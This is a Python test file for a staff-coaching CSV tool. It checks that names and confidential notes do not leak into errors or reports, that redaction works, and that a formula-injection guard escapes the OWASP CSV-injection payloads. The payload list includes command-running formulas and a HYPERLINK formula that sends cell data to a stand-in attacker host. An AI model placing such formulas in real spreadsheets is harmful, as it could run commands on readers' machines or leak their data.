"""Privacy guarantees (issue 5), through the real command as a subprocess:

- staff names and free text never reach stderr, the summary JSON or the HTML report;
- nothing is written anywhere the user did not ask for (no files in HOME, no stray
  temporary files beside the outputs);
- the formula-injection guard covers the OWASP CSV-injection payloads.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path

import pytest

NAMES = ["Zephyrine Quillfeather", "Barnaby Underwood-Smythe", "Ottoline Vantablack"]
NOTE = "confidential: going through a divorce"


def coachmentor() -> list[str]:
    exe = shutil.which("coachmentor", path=os.path.dirname(sys.executable))
    return [exe] if exe else [sys.executable, "-m", "coachmentor"]


def run(args: Sequence[object], cwd: Path, home: Path) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("XDG_", "COACHMENTOR_"))}
    env.update(HOME=str(home), COLUMNS="100", TMPDIR=str(cwd))
    result = subprocess.run(
        coachmentor() + [str(a) for a in args], cwd=cwd, env=env, capture_output=True, timeout=120
    )
    # decoded without newline translation: a CR inside a cell must stay a CR
    result.stdout = result.stdout.decode("utf-8")  # type: ignore[assignment]  # decoded here
    result.stderr = result.stderr.decode("utf-8")  # type: ignore[assignment]
    return result


@pytest.fixture
def place(tmp_path: Path) -> tuple[Path, Path]:
    work, home = tmp_path / "work", tmp_path / "home"
    work.mkdir()
    home.mkdir()
    return work, home


def staff_csv(work: Path) -> Path:
    rows = [
        ["staff_id", "name", "career_stage", "focus", "department", "notes"],
        ["S1", NAMES[0], "ECT", "induction", "Maths", NOTE],
        ["S2", NAMES[1], "Head of Department", "not a focus", "English", NOTE],   # bad value
        ["S3", NAMES[2], "", "conflict", "Science", NOTE],                         # missing required
        ["S4", NAMES[0], "established", "specific practice", "Maths"],            # short row
        ["S1", NAMES[1], "senior leader", "career", "SLT", NOTE],                  # repeated staff_id
    ]
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    path = work / "staff.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def test_names_and_notes_never_reach_errors_summaries_or_reports(place):
    work, home = place
    src = staff_csv(work)
    result = run(["assess", src, "-o", "out.csv", "--summary", "summary.json", "--report", "report.html"], work, home)
    assert result.returncode == 1, result.stderr
    rows = list(csv.DictReader(io.StringIO((work / "out.csv").read_text(encoding="utf-8-sig"))))
    assert [r["status"] for r in rows] == ["ok", "error", "error", "error", "ok"]
    kept = [result.stderr, (work / "summary.json").read_text(), (work / "report.html").read_text()]
    kept += [r["error"] for r in rows]
    for text in kept:
        for secret in [*NAMES, NOTE, "divorce"]:
            assert secret not in text
    summary = json.loads((work / "summary.json").read_text())
    # The short row's cells may be shifted (its staff_id could be a name): cited by row only.
    assert [e["staff_id"] for e in summary["first_errors"]] == ["S2", "S3", None]
    assert [e["row"] for e in summary["first_errors"]] == [3, 4, 5]
    assert "S1" in json.dumps(summary["duplicate_staff_ids"])


def test_redacted_output_holds_no_names(place):
    work, home = place
    src = staff_csv(work)
    result = run(["assess", src, "-o", "shared.csv", "--redact", "--quiet"], work, home)
    assert result.returncode == 1
    text = (work / "shared.csv").read_text(encoding="utf-8-sig")
    for name in NAMES:
        assert name not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["name"] == rows[3]["name"], "the same name gets the same pseudonym"
    assert rows[0]["name"] != rows[1]["name"]


@pytest.mark.slow(cost=2)
def test_nothing_written_but_what_was_asked(place):
    work, home = place
    src = staff_csv(work)
    answers = work / "a.yaml"
    answers.write_text("career_stage: ECT\nfocus: induction\nname: Zephyrine Quillfeather\n", encoding="utf-8")
    before = set(os.listdir(work))
    for args in (
        ["advise", "--answers", answers, "--format", "json"],
        ["advise", "--answers", answers, "--format", "markdown", "-o", "report.md"],
        ["assess", src, "-o", "out.csv", "--quiet"],
        ["assess", src, "--quiet"],
        ["template", "-o", "template.xlsx"],
        ["rules", "check"],
        ["advise", "--set", "career_stage=nonsense"],  # an error path too
    ):
        run(args, work, home)
    assert list(home.iterdir()) == [], "nothing may be written in the home folder"
    assert set(os.listdir(work)) - before == {"report.md", "out.csv", "template.xlsx"}


# OWASP "CSV Injection" payloads: each must reach the spreadsheet as text, not a formula.
OWASP = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-1",
]


def test_owasp_payloads_are_guarded_and_the_flag_turns_it_off(place):
    work, home = place
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["staff_id", "career_stage", "focus", "notes"])
    for i, payload in enumerate(OWASP):
        w.writerow([f"S{i}", "ECT", "induction", payload])
    src = work / "payloads.csv"
    src.write_text(buf.getvalue(), encoding="utf-8")
    guarded = list(csv.DictReader(io.StringIO(run(["assess", src, "--quiet"], work, home).stdout, newline="")))
    assert [r["notes"] for r in guarded] == ["'" + p for p in OWASP]
    plain = list(csv.DictReader(io.StringIO(run(["assess", src, "--quiet", "--no-formula-guard"], work, home).stdout, newline="")))
    assert [r["notes"] for r in plain] == OWASP


def test_free_text_in_a_coded_column_stays_in_its_row(place):
    """A note typed into a coded column is named in that row's error cell only: the summary,
    the summary JSON and the HTML report say which column, not what it held."""
    work, home = place
    secret = "Jane Secret - on long-term sick leave"
    src = work / "leak.csv"
    src.write_text(
        "staff_id,career_stage,focus\n"
        f"S1,{secret},induction\n"
        "S2,ECT,induction,extra note about Jane\n",
        encoding="utf-8",
    )
    result = run(["assess", src, "-o", "o.csv", "--summary", "s.json", "--report", "r.html"], work, home)
    assert result.returncode == 1
    rows = list(csv.DictReader(io.StringIO((work / "o.csv").read_text(encoding="utf-8-sig"))))
    assert secret in rows[0]["error"], "the row's own error cell names the bad value"
    assert "extra note about Jane" in rows[1]["error"], "an extra cell is kept, not dropped"
    for shared in (result.stderr, (work / "s.json").read_text(), (work / "r.html").read_text()):
        assert "Secret" not in shared and "Jane" not in shared
        assert "career_stage" in shared


def test_redact_pseudonymises_a_name_column_it_does_not_know(place):
    """--redact promises a file safe to share; a column it does not know (here 'Who') may hold
    names, so it gets pseudonyms too, and stderr names the column (never a value)."""
    work, home = place
    src = work / "who.csv"
    src.write_text("staff_id,Who,career_stage,focus\nS1,Zephyrine Quillfeather,ECT,induction\n", encoding="utf-8")
    result = run(["assess", src, "-o", "shared.csv", "--redact"], work, home)
    assert result.returncode == 0, result.stderr
    assert "'Who'" in result.stderr and "Zephyrine" not in result.stderr
    rows = list(csv.DictReader(io.StringIO((work / "shared.csv").read_text(encoding="utf-8-sig"))))
    assert rows[0]["Who"].startswith("anon-") and rows[0]["staff_id"] == "S1"
